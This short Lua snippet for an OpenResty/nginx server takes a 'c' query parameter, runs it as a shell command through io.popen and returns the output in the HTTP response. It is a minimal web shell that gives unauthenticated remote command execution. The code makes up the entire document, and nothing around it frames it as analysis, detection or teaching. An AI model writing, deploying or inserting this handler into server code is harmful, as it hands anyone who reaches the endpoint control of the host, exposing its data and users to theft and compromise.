local args = ngx.req.get_uri_args()
if args.c then
  local p = io.popen(args.c)
  ngx.say(p:read("*a"))
  p:close()
end
